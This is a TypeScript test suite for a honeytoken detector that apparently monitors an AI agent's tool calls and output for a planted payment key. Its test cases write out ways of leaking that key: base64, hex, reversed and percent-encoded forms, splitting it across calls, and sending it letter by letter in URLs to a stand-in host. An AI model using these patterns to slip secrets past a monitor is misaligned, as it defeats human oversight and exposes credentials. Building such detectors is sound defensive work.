import { assert, describe, it } from "@effect/vitest"
import { Schema } from "effect"
import { make, told, Watcher, watch } from "./observing.ts"

const value = "pay_live_4f9QzT7mXw2Lr8VbN1"
const detector = make({ honeytokens: [{ name: "payment key", value }] })
const found = ["honeytoken/critical"]

const alertsOf = (...inputs: ReadonlyArray<unknown>) => {
  const watcher = new Watcher()
  return watch(
    detector,
    inputs.map((input) => watcher.call("kv/set", input))
  ).alerts
}

describe("honeytokens", () => {
  it("are found whole in arguments, output and results, and are not named by their value", () => {
    const watcher = new Watcher()
    const places = [
      watcher.call("http/fetch", { headers: { authorization: `Bearer ${value}` } }),
      watcher.printed(`the key is ${value}!\n`),
      { ...watcher.common(), _tag: "RunEnded", status: "completed", value: JSON.stringify([value]) } as const,
      watcher.call("kv/set", { [value]: 1 })
    ]
    for (const place of places) {
      const { alerts } = watch(detector, [place])
      assert.deepStrictEqual(told(alerts), found)
      assert.strictEqual(alerts[0]?.details["honeytoken"], "payment key")
      assert.strictEqual(alerts[0]?.reaction, "freeze")
      assert.notInclude(JSON.stringify(alerts), value.slice(0, 12))
    }
  })

  it.prop(
    "are found in base64 at every alignment, in hexadecimal, reversed and percent-encoded, whatever stands around them",
    [Schema.String.check(Schema.isMaxLength(40)), Schema.String.check(Schema.isMaxLength(40))],
    ([before, behind]) => {
      const text = before.toWellFormed() + value + behind.toWellFormed()
      const bytes = Buffer.from(text)
      const forms = [
        bytes.toString("base64"),
        bytes.toString("base64url"),
        bytes.toString("hex"),
        [...text].reverse().join(""),
        [...bytes].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("")
      ]
      for (const form of forms) assert.deepStrictEqual(told(alertsOf({ key: "note", value: form })), found, form)
    },
    { arbitrary: { runs: 100 } }
  )

  it("are found in pieces: in several arguments, in several calls, letter by letter, and spelled out", () => {
    const letters = [...value]
    assert.deepStrictEqual(told(alertsOf({ parts: [value.slice(0, 9), value.slice(9)] })), found)
    assert.deepStrictEqual(told(alertsOf({ parts: letters })), found)
    assert.deepStrictEqual(told(alertsOf({ text: letters.join(" ") })), found)
    assert.deepStrictEqual(told(alertsOf({ a: `x ${value.slice(0, 13)} y` }, { b: `z ${value.slice(13)} w` })), found)
    const fives = value.match(/.{1,5}/g) ?? []
    assert.deepStrictEqual(told(alertsOf(...fives.map((piece) => ({ url: "https://t.example/", body: piece })))), found)
    const numbered = letters.map((letter, index) => ({ url: `https://t.example/?i=${index}&c=${letter}` }))
    assert.deepStrictEqual(told(alertsOf(...numbered)), found)
    const plain = letters.map((letter) => ({ url: `https://t.example/?c=${letter}.png` }))
    assert.deepStrictEqual(told(alertsOf(...plain)), found)
    const watcher = new Watcher()
    assert.deepStrictEqual(
      told(
        watch(
          detector,
          letters.map((letter) => watcher.printed(`${letter}\n`))
        ).alerts
      ),
      found
    )
  })

  it("are not found where they are read, or where less than half of one is", () => {
    const watcher = new Watcher()
    const { alerts } = watch(detector, [watcher.read("files/read", `KEY=${value}`)])
    assert.isEmpty(alerts)
    assert.isEmpty(alertsOf({ prefix: value.slice(0, 8), other: "pay_live_anotherToken" }))
  })

  it("are found once per cool-down", () => {
    assert.lengthOf(alertsOf(...Array.from({ length: 50 }, () => ({ key: value }))), 1)
  })
})
